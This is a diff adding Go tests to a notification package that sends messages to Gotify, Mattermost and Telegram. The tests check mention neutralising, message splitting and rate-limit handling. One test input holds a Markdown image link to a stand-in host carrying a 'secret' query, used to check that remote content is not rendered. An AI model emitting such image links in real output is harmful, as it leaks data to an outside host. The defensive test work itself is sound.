@@ -3,7 +3,10 @@ package channel
 import (
 	"encoding/json"
 	"fmt"
+	"io"
+	"net/http"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf16"
@@ -123,6 +126,49 @@ func TestNoRemoteContent(t *testing.T) {
 	}
 }
 
+// A text whose marks leave no room is sent as a plain one. Nobody is told that it is Markdown: it may have an image.
+func TestPlainTextIsNotCalledMarkdown(t *testing.T) {
+	text := `\!\[x](https://evil.example/?secret)` + "\n\n" + strings.Repeat("[a](https://x.example/"+strings.Repeat("y", 2000)+")\n\n", 30)
+	h := newHook(t)
+	c, err := NewHTTP("gotify", HTTPConfig{URL: h.URL})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := c.Send(t.Context(), Notification{ID: "1", Text: text, Format: FormatMarkdown}); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(h.bodies[0], "![x](https://evil.example/?secret)") || strings.Contains(h.bodies[0], "markdown") {
+		t.Errorf("sent %.300s", h.bodies[0])
+	}
+	b, err := NewBridge("C1", "", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p, err := b.Prepare(Notification{Text: "**bold**", Format: FormatMarkdown}); err != nil || p.Markup || p.Parts[0] != "bold" {
+		t.Errorf("a network without markup gets %+v, %v", p, err)
+	}
+}
+
+// Mattermost gets no mention of all members, in a draft either, and no message that is too long with the marks of its URLs.
+func TestMattermost(t *testing.T) {
+	b, err := NewBridge("C1", "", "mattermost")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d := b.Draft("s", "c", "C1", Draft{Text: "@all **@here**"}); d.Text != "@\u200ball **@\u200bhere**" {
+		t.Errorf("the draft %q", d.Text)
+	}
+	p, err := b.Prepare(Notification{Text: strings.Repeat("@all http://x.example ", 2000)})
+	if err != nil || len(p.Parts) < 3 {
+		t.Fatal(len(p.Parts), err)
+	}
+	for _, part := range p.Parts {
+		if n := utf8.RuneCountInString(part); n > shapes["mattermost"].limit || strings.Contains(part, "@all") {
+			t.Errorf("%d characters: %.100q", n, part)
+		}
+	}
+}
+
 // checkInert parses a message as its service would, and looks for remote content.
 func checkInert(t *testing.T, preset, source, sent string) {
 	t.Helper()
@@ -216,6 +262,27 @@ func TestTelegramSendsLongTextAsAFile(t *testing.T) {
 	api = newBotAPI(t, `{"ok":false,"error_code":429,"description":"Too Many Requests: retry after 5","parameters":{"retry_after":5}}`)
 	if err := newTelegram(t, api, "42").Send(t.Context(), Notification{ID: "1", Text: text}); err == nil || len(api.got) != 1 {
 		t.Errorf("%v after %d requests", err, len(api.got))
+	}
+}
+
+// A long answer is sent as one file, also if its draft cannot be removed at first.
+func TestTelegramReplacesADraftByAFile(t *testing.T) {
+	tg := newTelegram(t, newBotAPI(t), "42")
+	var methods []string
+	tg.api.client = &http.Client{Transport: roundTripper(func(r *http.Request) (*http.Response, error) {
+		method, answer := r.URL.Path[strings.LastIndexByte(r.URL.Path, '/')+1:], `{"ok":true,"result":{}}`
+		if method == "deleteMessage" && !slices.Contains(methods, method) {
+			answer = `{"ok":false,"error_code":429,"parameters":{"retry_after":1}}`
+		}
+		methods = append(methods, method)
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(answer)), Request: r}, nil
+	})}
+	n := Notification{ID: "1", Text: strings.Repeat("word ", 5000), Replaces: "7"}
+	if err := tg.Send(t.Context(), n); err == nil {
+		t.Error("no error")
+	}
+	if err := tg.Send(t.Context(), n); err != nil || strings.Join(methods, " ") != "deleteMessage deleteMessage sendDocument" {
+		t.Errorf("%v after %q", err, methods)
 	}
 }
 
